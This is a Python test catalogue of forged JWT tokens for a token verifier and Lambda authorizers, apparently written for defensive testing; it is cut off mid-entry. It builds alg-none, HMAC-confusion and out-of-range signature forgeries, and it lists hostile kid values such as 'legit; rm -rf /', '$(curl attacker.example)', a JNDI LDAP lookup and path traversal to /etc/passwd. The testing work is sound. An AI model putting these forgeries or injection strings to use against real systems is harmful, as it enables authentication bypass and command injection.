"""The hostile-token catalogue: every single-token attack of issue 7's corpus, with the code it must be refused with.

An entry is a name "<group>:<variant>", the TokenRejected code the token must get, and a builder that mints the token
from a `Forge` (the trusted and attacker keys, the clock's "now", the issuer and audience). Building at run time lets
one catalogue serve a Verifier on a fixed test clock (test_attack_corpus.py) and the Lambda authorizers on the real
clock (test_attack_corpus_authorizers.py). Apart from its attack every token is a good one: trusted issuer, audience,
times, and the scope the authorizers' route needs, so a token that gets through gets through because of the attack.

The trusted issuer (`issuer_config`) allows RS256, ES256, ES384, ES512 and EdDSA, one key each; the RSA key carries
kid "legit" and its own "alg" member. A refused time claim sits where a real clock moving on between minting and
verifying cannot make it acceptable: exp at or before the leeway edge, nbf and iat MARGIN seconds beyond theirs. The
exact edges are tested on a fixed clock in test_attack_corpus.py.
"""
from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.x509.oid import NameOID

from lambdas.validation import IssuerConfig
from lambdas.validation.compact import MAX_HEADER_CHARS, MAX_KID_CHARS, MAX_TOKEN_CHARS
from tests.support.tokens import AUDIENCE, ISSUER, SigningKey, b64url, b64url_json, standard_claims

ALGORITHMS = ("RS256", "ES256", "ES384", "ES512", "EdDSA")
LEEWAY = 60                       # the issuer's leeway_seconds (IssuerConfig's default)
SCOPE = "orders:read"             # what the authorizers' route requires; every hostile token carries it
MARGIN = 5                        # seconds between a hostile time claim and the acceptance edge it crosses

# Group orders n (SEC 2 2.4.2, 2.5.1, 2.6.1); test_attack_corpus.py checks them against the curves themselves.
CURVE_ORDERS = {
    "ES256": int("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551", 16),
    "ES384": int("FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF"
                 "581A0DB248B0A77AECEC196ACCC52973", 16),
    "ES512": int("01FF" + "FFFFFFFF" * 7 + "FFFFFFFA51868783BF2F966B7FCC0148F709A5D0"
                 "3BB5C9B8899C47AEBB6FB71E91386409", 16),
}
# The order L of the Ed25519 base point (RFC 8032 5.1); a signature's S must be below it (RFC 8032 5.1.7).
ED25519_ORDER = 2 ** 252 + 27742317777372353535851937790883648493


@dataclass(frozen=True)
class Keyring:
    """The trusted issuer's keys and an attacker's. Generate once per test module: RSA keys take a while."""

    rsa: SigningKey
    p256: SigningKey
    p384: SigningKey
    p521: SigningKey
    ed: SigningKey
    attacker_rsa: SigningKey      # kid "legit", like the trusted RSA key
    attacker_ec: SigningKey       # kid "legit" too: an EC key claiming the RSA key's kid
    attacker_cert: bytes          # DER self-signed certificate of attacker_rsa, for x5c

    @classmethod
    def generate(cls) -> Keyring:
        attacker = SigningKey.generate("RS256", kid="legit")
        return cls(rsa=SigningKey.generate("RS256", kid="legit"), p256=SigningKey.generate("ES256", kid="ec-p256"),
                   p384=SigningKey.generate("ES384", kid="ec-p384"), p521=SigningKey.generate("ES512", kid="ec-p521"),
                   ed=SigningKey.generate("EdDSA", kid="ed25519"), attacker_rsa=attacker,
                   attacker_ec=SigningKey.generate("ES256", kid="legit"), attacker_cert=_self_signed(attacker))

    @property
    def trusted(self) -> tuple[SigningKey, ...]:
        return (self.rsa, self.p256, self.p384, self.p521, self.ed)

    def ec(self, alg: str) -> SigningKey:
        return {"ES256": self.p256, "ES384": self.p384, "ES512": self.p521}[alg]

    def jwks(self) -> dict:
        return {"keys": [key.jwk() for key in self.trusted]}


def issuer_config(keys: Keyring) -> IssuerConfig:
    """The trusted issuer every catalogue entry is aimed at (in-memory keys: no network)."""
    return IssuerConfig(ISSUER, [AUDIENCE], jwks=keys.jwks(), algorithms=ALGORITHMS, leeway_seconds=LEEWAY)


def _self_signed(key: SigningKey) -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "idp.example.test")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.private_key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=30)).sign(key.private_key, hashes.SHA256()))
    return cert.public_bytes(serialization.Encoding.DER)


def _json_bytes(value: dict | str | bytes) -> bytes:
    if isinstance(value, bytes):
        return value
    if isinstance(value, str):
        return value.encode("utf-8")
    return json.dumps(value, separators=(",", ":")).encode("utf-8")


@dataclass(frozen=True)
class Forge:
    """Mints tokens for the trusted issuer at `now`: good ones, and the pieces hostile ones are made of."""

    keys: Keyring
    now: int

    def header(self, key: SigningKey | None = None, **members: Any) -> dict:
        """The header `key` (default: the RSA key) signs with; `members` override, None removes."""
        key = key or self.keys.rsa
        out = {"alg": key.alg, "kid": key.kid, "typ": "at+jwt", **members}
        return {k: v for k, v in out.items() if v is not None}

    def claims(self, **members: Any) -> dict:
        """Claims the trusted issuer would issue now, with the sweep route's scope; `members` override, None
        removes."""
        return standard_claims(now=self.now, **{"scope": SCOPE, **members})

    def claims_text(self, **raw_members: str) -> str:
        """claims() as JSON text with each of `raw_members` written as the given raw JSON text (numbers that JSON can
        spell but Python's json.dumps cannot, duplicate names, ...)."""
        base = self.claims(**{name: None for name in raw_members})
        text = json.dumps(base, separators=(",", ":"))[:-1]
        return text + "".join(f',"{name}":{raw}' for name, raw in raw_members.items()) + "}"

    def signed(self, key: SigningKey, header: dict | str | bytes, claims: dict | str | bytes,
               alter: Callable[[bytes], bytes] | None = None, alg: str | None = None) -> str:
        """A token whose header and claims are exactly these bytes, signed by `key` (with `alg`, default the key's),
        the signature then passed through `alter`."""
        signing_input = f"{b64url(_json_bytes(header))}.{b64url(_json_bytes(claims))}"
        signature = key.sign(signing_input.encode("ascii"), alg)
        return f"{signing_input}.{b64url(alter(signature) if alter else signature)}"

    def good(self, key: SigningKey | None = None, **claims: Any) -> str:
        key = key or self.keys.rsa
        return self.signed(key, self.header(key), self.claims(**claims))

    def unsigned(self, header: dict | str | bytes, claims: dict | str | bytes, signature: bytes) -> str:
        return f"{b64url(_json_bytes(header))}.{b64url(_json_bytes(claims))}.{b64url(signature)}"

    def parts(self, key: SigningKey | None = None, **claims: Any) -> list[str]:
        """The three segments of a good token."""
        return self.good(key, **claims).split(".")

    def header_of_length(self, chars: int) -> dict:
        """A good RSA header padded so that its base64url segment is exactly `chars` characters (base64url has no
        spelling of a length that is 1 more than a multiple of 4)."""
        for pad in range(max(0, chars * 3 // 4 - 60), chars):
            header = self.header(pad="h" * pad)
            if len(b64url_json(header)) == chars:
                return header
        raise ValueError(f"no header segment is {chars} characters long")

    def token_of_length(self, chars: int) -> str:
        """A good RSA token of exactly `chars` characters, padded in its header and claims."""
        signature_chars = len(self.parts()[2])
        for header_pad in range(4):
            header = self.header(hpad="h" * header_pad)
            fixed = len(b64url_json(header)) + 2 + signature_chars
            start = max(0, (chars - fixed) * 3 // 4 - len(json.dumps(self.claims())) - 8)
            for pad in range(start, start + 16):
                claims = self.claims(pad="x" * pad)
                if fixed + len(b64url_json(claims)) == chars:
                    return self.signed(self.keys.rsa, header, claims)
        raise ValueError(f"no token is {chars} characters long")


def _reshaped(f: Forge, shape: Callable[[str, str, str], str], key: SigningKey | None = None) -> str:
    """shape(header, claims, signature) of a good token's three segments."""
    return shape(*f.parts(key))


@dataclass(frozen=True)
class Attack:
    """One catalogue entry. trimmed_by_http: the token differs from a good one only by whitespace around it, which
    an HTTP header value cannot carry (RFC 9110 5.5: leading and trailing whitespace is not part of the value), so
    the authorizers, reading the token from a header, see the good token."""

    code: str
    build: Callable[[Forge], Any]
    trimmed_by_http: bool = False


ATTACKS: dict[str, Attack] = {}


def attack(name: str, code: str, build: Callable[[Forge], Any], *, trimmed_by_http: bool = False) -> None:
    if name in ATTACKS:
        raise ValueError(f"two catalogue entries are named {name!r}")
    ATTACKS[name] = Attack(code, build, trimmed_by_http)


def groups() -> set[str]:
    return {name.split(":", 1)[0] for name in ATTACKS}


# --- alg none ---------------------------------------------------------------------------------------------------------

# Every casing a case-insensitive comparison somewhere might accept, and "none " (no alg at all). Without a signature
# the token is refused for its empty signature segment before its alg is read.
for _label, _alg in (("none", "none"), ("None", "None"), ("NONE", "NONE"), ("nOnE", "nOnE"), ("NoNe", "NoNe"),
                     ("none-space", "none ")):
    attack(f"alg-none:{_label}:no-signature", "malformed",
           lambda f, a=_alg: f.unsigned(f.header(alg=a), f.claims(), b""))
    attack(f"alg-none:{_label}:junk-signature", "unsupported_alg",
           lambda f, a=_alg: f.unsigned(f.header(alg=a), f.claims(), b"x"))
    attack(f"alg-none:{_label}:real-rs256-signature", "unsupported_alg",
           lambda f, a=_alg: f.signed(f.keys.rsa, f.header(alg=a), f.claims(), alg="RS256"))
attack("alg-none:none:no-kid-no-typ", "unsupported_alg",
       lambda f: f.unsigned({"alg": "none"}, f.claims(), b"\x00"))

# --- alg outside the allow-list, or not matching the key --------------------------------------------------------------

for _alg in ("RS384", "RS512", "PS256", "PS384", "PS512"):
    attack(f"alg-not-allowed:{_alg}-by-the-trusted-rsa-key", "alg_not_allowed",
           lambda f, a=_alg: f.signed(f.keys.rsa, f.header(alg=a), f.claims(), alg=a))
attack("alg-not-allowed:Ed25519-name-not-in-the-allow-list", "alg_not_allowed",
       lambda f: f.signed(f.keys.ed, f.header(f.keys.ed, alg="Ed25519"), f.claims()))
attack("alg-not-allowed:es256-naming-the-rsa-kid", "alg_not_allowed",
       lambda f: f.signed(f.keys.attacker_ec, f.header(f.keys.attacker_ec), f.claims()))
attack("alg-not-allowed:rs256-naming-the-p256-kid", "alg_not_allowed",
       lambda f: f.signed(f.keys.attacker_rsa, f.header(kid="ec-p256"), f.claims()))
attack("alg-not-allowed:es384-naming-the-p256-kid", "alg_not_allowed",
       lambda f: f.signed(f.keys.p384, f.header(f.keys.p384, kid="ec-p256"), f.claims()))
attack("alg-not-allowed:eddsa-naming-the-rsa-kid", "alg_not_allowed",
       lambda f: f.signed(f.keys.ed, f.header(f.keys.ed, kid="legit"), f.claims()))
# Near misses of an allowed name, signed with the RS256 key they imitate, and names no JWS verifier here implements.
for _label, _alg in (("lower-case", "rs256"), ("mixed-case", "Rs256"), ("trailing-space", "RS256 "),
                     ("leading-space", " RS256"), ("nul-suffix", "RS256\u0000"), ("RS1", "RS1"), ("ES256K", "ES256K"),
                     ("Ed448", "Ed448"), ("ES", "ES"), ("empty", "")):
    attack(f"alg-unknown:{_label}", "unsupported_alg",
           lambda f, a=_alg: f.signed(f.keys.rsa, f.header(alg=a), f.claims(), alg="RS256"))
for _label, _value in (("list", ["RS256"]), ("number", 256), ("null", None), ("object", {"name": "RS256"}),
                       ("true", True)):
    attack(f"alg-unknown:not-a-string-{_label}", "malformed",
           lambda f, v=_value: f.signed(f.keys.rsa, {**f.header(), "alg": v}, f.claims(), alg="RS256"))
attack("alg-unknown:missing", "malformed", lambda f: f.signed(f.keys.rsa, f.header(alg=None), f.claims(), alg="RS256"))


# --- HS* keyed with the public key (algorithm confusion) --------------------------------------------------------------

def _public_key_forms(key: SigningKey) -> dict[str, bytes]:
    """Every spelling of the trusted public key an attacker might hand to an HMAC as the "secret"."""
    public = key.private_key.public_key()
    encoding, fmt = serialization.Encoding, serialization.PublicFormat
    jwk = key.jwk()
    forms = {"pem": public.public_bytes(encoding.PEM, fmt.SubjectPublicKeyInfo),
             "der": public.public_bytes(encoding.DER, fmt.SubjectPublicKeyInfo),
             "openssh": public.public_bytes(encoding.OpenSSH, fmt.OpenSSH),
             "jwk-json": json.dumps(jwk).encode(),
             "jwk-member": (jwk.get("n") or jwk["x"]).encode()}
    if key.alg.startswith("RS"):
        forms["pkcs1-pem"] = public.public_bytes(encoding.PEM, fmt.PKCS1)
    return forms


def _hmac_confusion(f: Forge, key_name: str, form: str, alg: str) -> str:
    key = getattr(f.keys, key_name)
    secret = _public_key_forms(key)[form]
    signing_input = f"{b64url_json(f.header(key, alg=alg))}.{b64url_json(f.claims())}"
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    return f"{signing_input}.{b64url(hmac.new(secret, signing_input.encode(), digest).digest())}"


for _key_name, _forms in (("rsa", ("pem", "der", "openssh", "jwk-json", "jwk-member", "pkcs1-pem")),
                          ("p256", ("pem", "der", "openssh", "jwk-json", "jwk-member")),
                          ("ed", ("pem", "der", "openssh", "jwk-json", "jwk-member"))):
    for _form in _forms:
        attack(f"hs-confusion:{_key_name}-{_form}-HS256", "unsupported_alg",
               lambda f, k=_key_name, m=_form: _hmac_confusion(f, k, m, "HS256"))
for _alg in ("HS384", "HS512"):
    attack(f"hs-confusion:rsa-pem-{_alg}", "unsupported_alg", lambda f, a=_alg: _hmac_confusion(f, "rsa", "pem", a))


# --- null and truncated signatures ------------------------------------------------------------------------------------

def _sig_bytes(f: Forge, key: SigningKey, signature: bytes) -> str:
    return f.unsigned(f.header(key), f.claims(), signature)


attack("null-signature:empty-segment", "malformed", lambda f: ".".join(f.parts()[:2]) + ".")
attack("null-signature:one-zero-byte", "bad_signature", lambda f: _sig_bytes(f, f.keys.rsa, b"\x00"))
attack("null-signature:rs256-all-zero", "bad_signature", lambda f: _sig_bytes(f, f.keys.rsa, bytes(256)))
attack("null-signature:rs256-value-one", "bad_signature",
       lambda f: _sig_bytes(f, f.keys.rsa, (1).to_bytes(256, "big")))
attack("null-signature:rs256-value-at-the-modulus", "bad_signature",
       lambda f: _sig_bytes(f, f.keys.rsa, f.keys.rsa.private_key.public_key().public_numbers().n.to_bytes(256, "big")))
attack("null-signature:eddsa-all-zero", "bad_signature", lambda f: _sig_bytes(f, f.keys.ed, bytes(64)))
# "null" is base64url for 3 bytes: a signature of the wrong length, not a missing one.
attack("null-signature:literal-null", "bad_signature", lambda f: ".".join(f.parts()[:2]) + ".null")
for _key_name in ("rsa", "p256", "ed"):
    attack(f"truncated-signature:{_key_name}-last-byte-dropped", "bad_signature",
           lambda f, k=_key_name: f.signed(getattr(f.keys, k), f.header(getattr(f.keys, k)), f.claims(),
                                           alter=lambda s: s[:-1]))
    attack(f"truncated-signature:{_key_name}-first-half", "bad_signature",
           lambda f, k=_key_name: f.signed(getattr(f.keys, k), f.header(getattr(f.keys, k)), f.claims(),
                                           alter=lambda s: s[: len(s) // 2]))
    attack(f"truncated-signature:{_key_name}-extra-zero-byte", "bad_signature",
           lambda f, k=_key_name: f.signed(getattr(f.keys, k), f.header(getattr(f.keys, k)), f.claims(),
                                           alter=lambda s: s + b"\x00"))


def _rsa_signature_without_its_leading_zero(f: Forge) -> str:
    # About one RS256 signature in 256 starts with a zero octet. OpenSSL widens the k - 1 octets left back to k, so
    # only RFC 8017 8.2.2's exact-length rule keeps them from verifying: a second spelling of a signed token.
    for attempt in range(4096):
        header, claims = f.header(), f.claims(jti=f"leading-zero-{attempt}")
        signature = f.keys.rsa.sign(f"{b64url(_json_bytes(header))}.{b64url(_json_bytes(claims))}".encode("ascii"))
        if signature[0] == 0:
            return f.unsigned(header, claims, signature[1:])
    raise AssertionError("no RS256 signature with a leading zero octet in 4096 tries")


attack("truncated-signature:rsa-leading-zero-octet-dropped", "bad_signature", _rsa_signature_without_its_leading_zero)
# 256 signature bytes are 342 characters; dropping one leaves a length no base64url text can have.
attack("truncated-signature:segment-one-character-short", "malformed", lambda f: f.good()[:-1])
attack("truncated-signature:token-cut-in-the-claims", "malformed", lambda f: f.good()[: len(f.parts()[0]) + 20])


# --- ECDSA: r = s = 0, r or s >= n, DER where IEEE P1363 (r || s) is expected -----------------------------------------

def _ecdsa(f: Forge, alg: str, rewrite: Callable[[int, int, int], tuple[int, int] | bytes]) -> str:
    """A real ES* signature by the trusted key, its (r, s) rewritten; `rewrite(r, s, n)` returns the new (r, s),
    written as P1363 of the curve's size, or finished signature bytes."""
    key = f.keys.ec(alg)

    def alter(signature: bytes) -> bytes:
        size = len(signature) // 2
        out = rewrite(int.from_bytes(signature[:size], "big"), int.from_bytes(signature[size:], "big"),
                      CURVE_ORDERS[alg])
        if isinstance(out, bytes):
            return out
        return out[0].to_bytes(size, "big") + out[1].to_bytes(size, "big")

    return f.signed(key, f.header(key), f.claims(), alter=alter)


for _alg in CURVE_ORDERS:
    attack(f"ecdsa-zero:{_alg}-r-s-zero-p1363", "bad_signature", lambda f, a=_alg: _ecdsa(f, a, lambda r, s, n: (0, 0)))
    attack(f"ecdsa-zero:{_alg}-r-s-zero-der", "bad_signature",
           lambda f, a=_alg: _ecdsa(f, a, lambda r, s, n: encode_dss_signature(0, 0)))
    attack(f"ecdsa-zero:{_alg}-r-zero", "bad_signature", lambda f, a=_alg: _ecdsa(f, a, lambda r, s, n: (0, s)))
    attack(f"ecdsa-zero:{_alg}-s-zero", "bad_signature", lambda f, a=_alg: _ecdsa(f, a, lambda r, s, n: (r, 0)))
    attack(f"ecdsa-over-order:{_alg}-r-equals-n", "bad_signature",
           lambda f, a=_alg: _ecdsa(f, a, lambda r, s, n: (n, s)))
    attack(f"ecdsa-over-order:{_alg}-s-equals-n", "bad_signature",
           lambda f, a=_alg: _ecdsa(f, a, lambda r, s, n: (r, n)))
    attack(f"ecdsa-over-order:{_alg}-r-s-equal-n", "bad_signature",
           lambda f, a=_alg: _ecdsa(f, a, lambda r, s, n: (n, n)))
    attack(f"ecdsa-over-order:{_alg}-r-all-ones", "bad_signature",
           lambda f, a=_alg: _ecdsa(f, a, lambda r, s, n: ((1 << (8 * ((n.bit_length() + 7) // 8))) - 1, s)))
    attack(f"ecdsa-over-order:{_alg}-s-all-ones", "bad_signature",
           lambda f, a=_alg: _ecdsa(f, a, lambda r, s, n: (r, (1 << (8 * ((n.bit_length() + 7) // 8))) - 1)))
    attack(f"ecdsa-der:{_alg}-valid-signature-der-encoded", "bad_signature",
           lambda f, a=_alg: _ecdsa(f, a, lambda r, s, n: encode_dss_signature(r, s)))
# P-521's 66-byte fields have room above n: r + n and s + n are the same values modulo n, the classic way past a
# verifier that reduces instead of range-checking.
attack("ecdsa-over-order:ES512-r-plus-n", "bad_signature", lambda f: _ecdsa(f, "ES512", lambda r, s, n: (r + n, s)))
attack("ecdsa-over-order:ES512-s-plus-n", "bad_signature", lambda f: _ecdsa(f, "ES512", lambda r, s, n: (r, s + n)))
# Ed25519 likewise: S + L is S modulo L (RFC 8032 5.1.7 requires S < L).
attack("eddsa-over-order:s-plus-l", "bad_signature", lambda f: f.signed(
    f.keys.ed, f.header(f.keys.ed), f.claims(),
    alter=lambda sig: sig[:32] + (int.from_bytes(sig[32:], "little") + ED25519_ORDER).to_bytes(32, "little")))


# --- keys named or carried by the token -------------------------------------------------------------------------------

def _key_members(f: Forge) -> dict[str, Any]:
    return {"jwk": f.keys.attacker_rsa.jwk(), "jku": "https://attacker.example/jwks.json",
            "x5u": "https://attacker.example/cert.pem",
            "x5c": [base64.b64encode(f.keys.attacker_cert).decode("ascii")]}


for _member in ("jwk", "jku", "x5u", "x5c"):
    attack(f"key-in-header:{_member}-trusted-kid", "bad_signature", lambda f, m=_member: f.signed(
        f.keys.attacker_rsa, f.header(**{m: _key_members(f)[m]}), f.claims()))
    attack(f"key-in-header:{_member}-attacker-kid", "unknown_kid", lambda f, m=_member: f.signed(
        f.keys.attacker_rsa, f.header(kid="attacker", **{m: _key_members(f)[m]}), f.claims()))
    attack(f"key-in-header:{_member}-no-kid", "bad_signature", lambda f, m=_member: f.signed(
        f.keys.attacker_rsa, f.header(kid=None, **{m: _key_members(f)[m]}), f.claims()))
# Without a kid the one trusted ES256 key is tried, and fails.
attack("key-in-header:jwk-ec-key-no-kid", "bad_signature", lambda f: f.signed(
    f.keys.attacker_ec, f.header(f.keys.attacker_ec, kid=None, jwk=f.keys.attacker_ec.jwk()), f.claims()))
attack("key-in-header:every-member-at-once", "bad_signature", lambda f: f.signed(
    f.keys.attacker_rsa, f.header(**_key_members(f)), f.claims()))


# --- kid --------------------------------------------------------------------------------------------------------------

for _label, _kid in (("path-traversal", "../../../../etc/passwd"), ("path-traversal-windows", "..\\..\\boot.ini"),
                     ("file-url", "file:///dev/random"), ("sql", "' OR '1'='1"), ("sql-union", "x' UNION SELECT 'k"),
                     ("shell", "legit; rm -rf /"), ("shell-subst", "$(curl attacker.example)"),
                     ("shell-backtick", "`id`"), ("jndi", "${jndi:ldap://attacker.example/a}"),
                     ("html", "<script>alert(1)</script>"), ("nul", "legit\u0000"), ("newline", "legit\n"),
                     ("crlf-log-injection", "x\r\n{\"decision\":\"allow\"}"), ("percent-nul", "%00"),
                     ("rtl-override", "\u202elegit"), ("empty", ""), ("case", "LEGIT"), ("trailing-space", "legit "),
                     ("at-length-limit", "k" * MAX_KID_CHARS), ("glob", "*"), ("regex", ".*")):
    attack(f"kid-injection:{_label}", "unknown_kid",
           lambda f, k=_kid: f.signed(f.keys.rsa, f.header(kid=k), f.claims()))
for _label, _kid in (("int", 1), ("zero", 0), ("float", 1.5), ("true", True), ("list", ["legit"]), ("empty-list", []),
                     ("object", {"$ne": None}), ("null", None), ("over-length-limit", "k" * (MAX_KID_CHARS + 1))):
    attack(f"kid-type:{_label}", "malformed",
           lambda f, k=_kid: f.signed(f.keys.rsa, {**f.header(), "kid": k}, f.claims()))
attack("kid-type:10-KB", "token_too_large", lambda f: f.signed(f.keys.rsa, f.header(kid="k" * 10_240), f.claims()))


# --- shape: segments, JSON serialization, whitespace, padding, alphabet -----------------------------------------------

for _label, _shape in (("1-segment", lambda h, p, s: h), ("2-segments", lambda h, p, s: f"{h}.{p}"),
                       ("4-segments", lambda h, p, s: f"{h}.{p}.{s}.{s}"),
                       ("4-segments-trailing-dot", lambda h, p, s: f"{h}.{p}.{s}."),
                       ("4-segments-leading-dot", lambda h, p, s: f".{h}.{p}.{s}"),
                       ("6-segments", lambda h, p, s: f"{h}.{p}.{s}.{h}.{p}.{s}"),
                       ("empty-header", lambda h, p, s: f".{p}.{s}"), ("empty-claims", lambda h, p, s: f"{h}..{s}"),
                       ("all-empty", lambda h, p, s: ".."), ("empty-string", lambda h, p, s: ""),
                       ("bearer-prefix", lambda h, p, s: f"Bearer {h}.{p}.{s}")):
    attack(f"segments:{_label}", "malformed", lambda f, shape=_shape: _reshaped(f, shape))


def _json_serialization(f: Forge, general: bool, indent: int | None = None) -> str:
    h, p, s = f.parts()
    flattened = {"protected": h, "payload": p, "signature": s}
    doc = {"payload": p, "signatures": [{"protected": h, "signature": s}]} if general else flattened
    return json.dumps(doc, indent=indent)


attack("json-serialization:flattened", "malformed", lambda f: _json_serialization(f, False))
attack("json-serialization:general", "malformed", lambda f: _json_serialization(f, True))
attack("json-serialization:general-pretty", "malformed", lambda f: _json_serialization(f, True, indent=2))
attack("json-serialization:flattened-compact", "malformed",
       lambda f: _json_serialization(f, False).replace(" ", ""))
attack("json-serialization:compact-token-as-json-string", "malformed", lambda f: json.dumps(f.good()))
attack("json-serialization:compact-token-in-json-array", "malformed", lambda f: json.dumps([f.good()]))

for _label, _wrap in (("leading-space", lambda t: " " + t), ("trailing-space", lambda t: t + " "),
                      ("trailing-newline", lambda t: t + "\n"), ("trailing-crlf", lambda t: t + "\r\n"),
                      ("leading-tab", lambda t: "\t" + t)):
    attack(f"whitespace:{_label}", "malformed", lambda f, w=_wrap: w(f.good()), trimmed_by_http=True)
for _label, _shape in (("space-in-claims", lambda h, p, s: f"{h}.{p[:9]} {p[9:]}.{s}"),
                       ("newline-in-header", lambda h, p, s: f"{h[:7]}\n{h[7:]}.{p}.{s}"),
                       ("tab-in-signature", lambda h, p, s: f"{h}.{p}.{s[:40]}\t{s[40:]}"),
                       ("spaces-around-dots", lambda h, p, s: f"{h} . {p} . {s}"),
                       ("crlf-folded", lambda h, p, s: f"{h}.{p}\r\n .{s}"),
                       ("no-break-space", lambda h, p, s: f"{h}.{p}\u00a0.{s}"),
                       ("zero-width-space", lambda h, p, s: f"{h}.\u200b{p}.{s}")):
    attack(f"whitespace:{_label}", "malformed", lambda f, shape=_shape: _reshaped(f, shape))

for _label, _shape in (("header", lambda h, p, s: f"{h}=.{p}.{s}"), ("claims", lambda h, p, s: f"{h}.{p}=.{s}"),
                       ("signature", lambda h, p, s: f"{h}.{p}.{s}=="),
                       ("signature-one", lambda h, p, s: f"{h}.{p}.{s}="),
                       ("url-encoded", lambda h, p, s: f"{h}.{p}.{s}%3D%3D"),
                       ("inside", lambda h, p, s: f"{h}.{p[:8]}=={p[8:]}.{s}")):
    attack(f"padding:{_label}", "malformed", lambda f, shape=_shape: _reshaped(f, shape))


def _standard_alphabet(f: Forge) -> str:
    # "???" is 0x3F3F3F, base64url "Pz8_": five of them hold one aligned triple whatever the offset, so the claims
    # segment surely has a "_" for the standard alphabet to turn into "/".
    h, p, s = f.parts(note="?????")
    assert "_" in p
    return f"{h}.{p.replace('-', '+').replace('_', '/')}.{s}"


def _non_canonical_last_character(f: Forge) -> str:
    h, p, s = f.parts()
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    # 256 signature bytes -> 342 characters, the last carrying 4 spare bits; setting one keeps the decoded bytes.
    return f"{h}.{p}.{s[:-1]}{alphabet[alphabet.index(s[-1]) | 1]}"


attack("alphabet:standard-base64", "malformed", _standard_alphabet)
attack("alphabet:non-canonical-trailing-bits", "malformed", _non_canonical_last_character)
for _label, _char in (("bang", "!"), ("star", "*"), ("tilde", "~"), ("percent", "%"), ("nul", "\x00"),
                      ("e-acute", "\u00e9"), ("fullwidth-a", "\uff21"), ("quote", '"'), ("comma", ","),
                      ("backslash", "\\")):
    attack(f"alphabet:{_label}-in-claims", "malformed",
           lambda f, c=_char: _reshaped(f, lambda h, p, s: f"{h}.{p[:10]}{c}{p[11:]}.{s}"))


# --- signed, then altered ---------------------------------------------------------------------------------------------

def _flip_one_signature_byte(f: Forge) -> str:
    return f.signed(f.keys.rsa, f.header(), f.claims(), alter=lambda s: s[:100] + bytes([s[100] ^ 1]) + s[101:])


attack("altered:one-signature-bit", "bad_signature", _flip_one_signature_byte)
attack("altered:claims-of-another-good-token", "bad_signature",
       lambda f: _reshaped(f, lambda h, p, s: f"{h}.{f.parts(subject='admin')[1]}.{s}"))
attack("altered:header-and-signature-of-another-key", "bad_signature",
       lambda f: _reshaped(f, lambda h, p, s: f"{f.parts(f.keys.p256)[0]}.{p}.{f.parts(f.keys.p256)[2]}"))
attack("altered:signed-by-the-attacker-with-the-trusted-kid", "bad_signature",
       lambda f: f.signed(f.keys.attacker_rsa, f.header(), f.claims()))
attack("altered:eddsa-signature-for-other-claims", "bad_signature",
       lambda f: _reshaped(f, lambda h, p, s: f"{h}.{f.parts(f.keys.ed, subject='admin')[1]}.{s}", f.keys.ed))


# --- header or claims set not a JSON object; duplicates, crit, b64, JWE -----------------------------------------------

for _label, _text in (("array", '["RS256"]'), ("string", '"RS256"'), ("null", "null"), ("number", "1"),
                      ("true", "true"), ("trailing-data", '{"alg":"RS256","kid":"legit"} {}'),
                      ("truncated", '{"alg":"RS256","kid":"legit"'), ("not-json", "RS256"),
                      ("empty-object", "{}")):
    attack(f"header-not-object:{_label}", "malformed",
           lambda f, t=_text: f.signed(f.keys.rsa, t, f.claims(), alg="RS256"))

for _label, _text in (("array", "[]"), ("string", '"a string"'), ("number", "123"), ("null", "null"),
                      ("true", "true"), ("empty", ""), ("truncated", "{"), ("two-objects", '{"a":1} {"b":2}'),
                      ("NaN", "NaN")):
    attack(f"claims-not-object:{_label}", "malformed", lambda f, t=_text: f.signed(f.keys.rsa, f.header(), t))

for _label, _text in (("alg-then-none", '{"alg":"RS256","kid":"legit","typ":"at+jwt","alg":"none"}'),
                      ("none-then-alg", '{"alg":"none","kid":"legit","typ":"at+jwt","alg":"RS256"}'),
                      ("kid", '{"alg":"RS256","kid":"attacker","typ":"at+jwt","kid":"legit"}'),
                      ("typ", '{"alg":"RS256","kid":"legit","typ":"JWT","typ":"at+jwt"}'),
                      ("escaped-name", '{"alg":"RS256","kid":"legit","typ":"at+jwt","\\u0061lg":"RS256"}')):
    attack(f"duplicate-members:header-{_label}", "malformed",
           lambda f, t=_text: f.signed(f.keys.rsa, t, f.claims(), alg="RS256"))


def _duplicate_claim(f: Forge, name: str, first: str, second: str, spaced: bool = False) -> str:
    text = f.claims_text(**{name: first})[:-1] + (f', "{name}" : {second}' if spaced else f',"{name}":{second}') + "}"
    return f.signed(f.keys.rsa, f.header(), text)


# Each pair put so that one of "first wins" and "last wins" reads the value an attacker wants.
for _label, _name, _first, _second in (
        ("aud-untrusted-then-trusted", "aud", '"other-api"', f'"{AUDIENCE}"'),
        ("aud-trusted-then-untrusted", "aud", f'"{AUDIENCE}"', '"other-api"'),
        ("iss-attacker-then-trusted", "iss", '"https://attacker.example"', f'"{ISSUER}"'),
        ("sub", "sub", '"admin"', '"user-123"'), ("exp-past-then-future", "exp", "1", "9999999999"),
        ("scope", "scope", '"admin"', f'"{SCOPE}"')):
    attack(f"duplicate-members:claims-{_label}", "malformed",
           lambda f, n=_name, a=_first, b=_second: _duplicate_claim(f, n, a, b))
attack("duplicate-members:claims-spaced-colon", "malformed",
       lambda f: _duplicate_claim(f, "sub", '"admin"', '"user-123"', spaced=True))
attack("duplicate-members:claims-escaped-name", "malformed",
       lambda f: f.signed(f.keys.rsa, f.header(), f.claims_text(sub='"user-123"')[:-1] + ',"s\\u0075b":"admin"}'))
attack("duplicate-members:claims-nested-object", "malformed",
       lambda f: f.signed(f.keys.rsa, f.header(), f.claims_text(x='{"a":1,"a":2}')))
attack("duplicate-members:claims-object-in-array", "malformed",
